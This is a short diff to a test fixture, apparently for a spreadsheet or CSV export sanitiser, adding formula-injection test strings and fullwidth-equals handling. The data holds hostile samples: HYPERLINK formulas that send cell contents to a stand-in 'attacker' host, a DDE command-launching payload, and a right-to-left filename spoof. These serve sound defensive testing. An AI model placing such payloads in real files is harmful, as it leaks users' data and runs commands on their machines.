@@ -15,6 +15,8 @@ TEXTS = {
     "log line": 'a\n{"event": "request", "status": 200}\n',
     "formula": '=HYPERLINK("http://attacker/?"&A1,"ok")',
     "formulas": "@SUM(1+9)*cmd|' /C calc'!A0",
+    "formula behind a semicolon": 'D7;=HYPERLINK("http://attacker/?"&A1);"@SUM(1+9)',
+    "wide formula": "\uff1dHYPERLINK(A1)",
     "NUL": "a\0b",
     "direction": "cod\u202egnp.exe\u2066\u200f",
     "long": "W" * 10_000,
@@ -39,7 +41,7 @@ _DELIMITER = b"\x1e"
 
 
 def marked(text):
-    return f"{text[0]}{MARKER}{text[1:]}" if text[0] in "=@./" else f"{MARKER}{text}"
+    return f"{text[0]}{MARKER}{text[1:]}" if text[0] in "=@./\uff1d" else f"{MARKER}{text}"
 
 
 ALL = {name: marked(text) for name, text in TEXTS.items()}
